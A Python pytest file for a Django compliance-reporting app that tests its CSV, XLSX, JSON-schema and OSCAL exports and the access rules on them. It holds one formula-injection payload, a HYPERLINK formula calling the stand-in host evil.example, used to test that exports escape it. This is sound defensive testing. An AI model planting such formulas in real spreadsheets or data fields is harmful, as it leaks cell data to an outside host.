"""What the centre gives to other programs: tables without formulas, JSON of one's own format, OSCAL."""

import io
import json
from importlib.resources import files
from typing import Any

import pytest
from django.utils import timezone
from jsonschema import Draft202012Validator
from openpyxl import load_workbook
from tests.behaviour.centre.conftest import Desk, Town, desk
from tests.support import centre as a
from trestle.oscal.assessment_results import Model as AssessmentResults

from qorgan.centre.access.models import AuditLine
from qorgan.centre.norms import service, sheets
from qorgan.centre.reports import layout, tables
from qorgan.domain.access import Body, Role

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def ministry(town: Town) -> Desk:
    town.school.node.last_pulse_at = timezone.now()
    town.school.node.save()
    service.enrol()
    while service.look():
        pass
    return desk(a.a_person(Role.MINISTRY))


@pytest.fixture
def schema() -> Draft202012Validator:
    said = json.loads((files("qorgan.centre.reports") / "nobd.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(said)
    return Draft202012Validator(said)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_standing_as_a_table_says_what_the_screen_says(town: Town, ministry: Desk, kind: Any) -> None:
    answer = ministry.get("/reports/standing-table", kind=kind, language="ru", level="district", of=a.CITY)
    page = ministry.get("/norms/standing", level="district", of=a.CITY).json()

    ((number, row),) = sheets.read(answer.content)
    (child,) = page["children"]
    assert (number, row["id"], row["территория"]) == (2, child["id"], child["name"]["ru"])
    assert (row["организации"], row["неизвестно"]) == (str(child["organisations"]), str(child["unknown"]))
    assert row["дата реестра"] == page["registry_as_of"]
    assert "attachment" in answer["Content-Disposition"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_verdicts_as_a_table_are_all_of_them(town: Town, ministry: Desk, kind: Any) -> None:
    path = f"/reports/schools/{town.school.pk}/verdict-table"
    rows = sheets.read(ministry.get(path, kind=kind, language="kk").content)
    items = ministry.get(f"/schools/{town.school.pk}/norms").json()["items"]
    assert [row["id"] for _, row in rows] == [one["requirement"] for one in items]
    assert [row["талап"] for _, row in rows] == [one["title"]["kk"].strip() for one in items]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@"])
def test_no_cell_of_a_csv_begins_a_formula(first: str) -> None:
    (line,) = tables.written("csv", ["a"], [[f"{first}SUM(1)"]]).decode("utf-8-sig").split("\r\n", 1)[1:]
    assert line.lstrip('"').startswith("'")
    assert tables.guarded(-5) == -5 and tables.guarded("Ә-1") == "Ә-1"


def test_a_name_that_would_like_to_be_a_formula_is_text(town: Town, ministry: Desk) -> None:
    town.school.name_kk = FORMULA
    town.school.save()
    csv = ministry.get("/reports/standing-table", level="district", of=a.CITY).content.decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in csv and f";{FORMULA}" not in csv

    xlsx = ministry.get("/reports/standing-table", kind="xlsx", level="district", of=a.CITY).content
    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).worksheets[0] for cell in row]
    assert FORMULA in [cell.value for cell in cells] and "f" not in {cell.data_type for cell in cells}


def test_the_education_database_gets_what_its_schema_says(
    town: Town, ministry: Desk, schema: Draft202012Validator
) -> None:
    for asked in ({}, {"level": "region", "of": a.KOSTANAY}, {"level": "district", "of": a.CITY}):
        said = ministry.get("/reports/nobd.json", **asked).json()
        assert [one.message for one in schema.iter_errors(said)] == []
        assert sum(one["organisations"] for one in said["items"]) == said["total"]["organisations"] > 0
        assert said.pop("digest") == layout.digest_of(said)
        assert list(schema.iter_errors(said)), "the schema asks for the digest"


def test_trestle_takes_the_verdicts_and_unknown_is_not_satisfied(town: Town, ministry: Desk) -> None:
    answer = ministry.get(f"/reports/schools/{town.school.pk}/oscal.json")
    found = AssessmentResults.model_validate_json(answer.content).assessment_results

    items = ministry.get(f"/schools/{town.school.pk}/norms").json()["items"]
    judged = {one["requirement"].replace(":", "."): one for one in items if one["verdict"] != "not_applicable"}
    results: Any = found.results
    findings = {one.target.target_id: one for one in results[0].findings}
    assert findings.keys() == judged.keys()
    for key, finding in findings.items():
        state = getattr(finding.target.status.state, "value", finding.target.status.state)
        assert (state == "satisfied") == (judged[key]["verdict"] == "compliant"), key
    assert "unknown" in {one["verdict"] for one in judged.values()}


def test_exports_are_audited_and_only_of_ones_own_territory(town: Town, ministry: Desk) -> None:
    stranger = desk(a.a_person(Role.INSPECTOR, regions=(a.ASTANA,), body=Body.POLICE))
    school = f"/reports/schools/{town.school.pk}"
    for path in ("verdict-table", "oscal.json"):
        assert stranger.get(f"{school}/{path}").status_code == 404
    assert stranger.get("/reports/nobd.json").json()["total"]["organisations"] == 1
    officer = desk(a.a_person(Role.DUTY_OFFICER, centre=town.centre))
    assert officer.get("/reports/standing-table").status_code == 403

    ministry.get("/reports/nobd.json")
    line = AuditLine.objects.get(action="report.exported", person=ministry.user)
    assert line.data["report"] == "nobd.json" and len(line.data["digest"]) == 64
